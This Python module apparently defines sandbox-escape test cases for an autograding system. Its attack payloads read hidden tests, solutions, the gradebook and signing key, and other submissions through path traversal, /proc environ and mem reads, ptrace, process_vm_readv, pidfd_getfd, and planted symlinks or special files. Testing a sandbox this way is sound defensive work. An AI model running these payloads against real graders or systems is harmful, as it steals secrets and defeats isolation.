"""Reading tests, solutions, the gradebook, other submissions, other processes.

The sandbox sees the submission, the course library and the interpreter; a pid namespace of its own
holds no process but its own.
"""

import os
from pathlib import Path

from ..attack import SANDBOX, Attack

SECRET = ("process", "secret")


def _links(folder: Path) -> None:
    """Links to what is worth reading, to a folder, and to themselves."""
    course = next(p for p in folder.parents if (p / "course").is_dir()) / "course"
    (folder / "double.py").unlink()
    (folder / "double.py").symlink_to(course / "solutions" / "lab93_target" / "double.py")
    (folder / "keys.py").symlink_to(course / "instructor" / "keys.json")
    (folder / "all").symlink_to(course)
    (folder / "loop.py").symlink_to("loop.py")


def _special(folder: Path) -> None:
    """What is no file: reading it would wait for ever, or never end."""
    os.mkfifo(folder / "pipe.py")
    (folder / "zero.py").symlink_to("/dev/zero")
    (folder / "dir.py").mkdir()
    if os.geteuid() == 0:
        os.mknod(folder / "device.py", 0o644 | 0o020000, os.makedev(1, 5))


ATTACKS = [
    Attack(
        "hidden_tests",
        "reads the hidden tests and the list of expected ones",
        "steal(T['course'] + '/graders')",
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "solutions",
        "reads the solutions",
        "steal(T['course'] + '/solutions')",
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "gradebook",
        "reads the gradebook and the signing key",
        "steal(T['course'] + '/instructor')",
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "others",
        "reads other submissions",
        "steal(T['course'] + '/submissions')",
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "dot_dot",
        "climbs up from where it stands",
        "for depth in range(1, 9): steal('../' * depth + T['course'].lstrip('/'))",
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "proc_environ",
        "reads the environment of every process",
        "for pid in processes(): steal(f'/proc/{pid}/environ')",
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "proc_root",
        "goes through the root, cwd and descriptors of every process",
        """
            for pid in [T['oracle'], *processes()]:
                for way in ('root', 'cwd'):
                    steal(f'/proc/{pid}/{way}{T["course"]}/instructor')
                steal(f'/proc/{pid}/fd')
        """,
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "proc_mem",
        "reads the memory of the oracle and its parents by /proc/<pid>/mem",
        """
            for pid in [T['bystander'], T['oracle'], *processes()][:20]:
                with contextlib.suppress(OSError, ValueError):
                    with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                        for line in open(f'/proc/{pid}/maps'):
                            if ' rw-p ' in line and 'stack' in line:
                                low, high = (int(n, 16) for n in line.split()[0].split('-'))
                                memory.seek(low); loot(memory.read(high - low), pid)
        """,
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "ptrace",
        "attaches to other processes and reads them with process_vm_readv",
        """
            buffer = ctypes.create_string_buffer(1 << 16)
            for pid in [T['bystander'], *([1, *parents()] if fenced() else ())]:
                say(f'ptrace {syscall(101, 16, pid, 0, 0)}')
                class V(ctypes.Structure):
                    _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]
                with contextlib.suppress(OSError):
                    for line in open(f'/proc/{pid}/maps'):
                        if 'stack' not in line: continue
                        low, high = (int(n, 16) for n in line.split()[0].split('-'))
                        for at in range(low, high, 1 << 16):
                            mine, theirs = V(ctypes.addressof(buffer), 1 << 16), V(at, 1 << 16)
                            ways = ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0
                            if syscall(310, pid, *ways) > 0:
                                loot(buffer.raw, pid)
        """,
        levels=SANDBOX,
        bites=SECRET,
    ),
    Attack(
        "pidfd",
        "takes another process's descriptors with pidfd_getfd",
        """
            for pid in [T['bystander'], *([T['oracle'], 1, *parents()] if fenced() else ())]:
                pidfd = syscall(434, pid, 0)
                for n in range(64):
                    fd = syscall(438, pidfd, n, 0)
                    if fd >= 0: mark('took a descriptor')
        """,
        levels=SANDBOX,
        bites=("process", "marker"),
    ),
    Attack(
        "links",
        "hands in links to the solution, a key, a folder and itself",
        plant=_links,
        runs=False,
    ),
    Attack(
        "special_files", "hands in a pipe, a device, a folder named like a module", plant=_special
    ),
    Attack(
        "argv",
        "reads command lines, mounts and maps for what they say",
        """
            for pid in ['self', *processes()]:
                for name in ('cmdline', 'maps', 'mountinfo', 'mounts', 'stack', 'syscall', 'wchan'):
                    steal(f'/proc/{pid}/{name}')
            for name in ('kcore', 'keys', 'timer_list', 'sched_debug', 'vmallocinfo'):
                steal(f'/proc/{name}')
        """,
    ),
    Attack(
        "old_memory",
        "looks for secrets in its own memory, inherited from the fork server",
        """
            maps = Path('/proc/self/maps')
            for line in maps.read_text().splitlines() if maps.exists() else []:
                if ' rw-p ' in line and line.split()[4] == '0':
                    low, high = (int(n, 16) for n in line.split()[0].split('-'))
                    if high - low < 1 << 25: loot(ctypes.string_at(low, high - low), 'own memory')
        """,
    ),
]
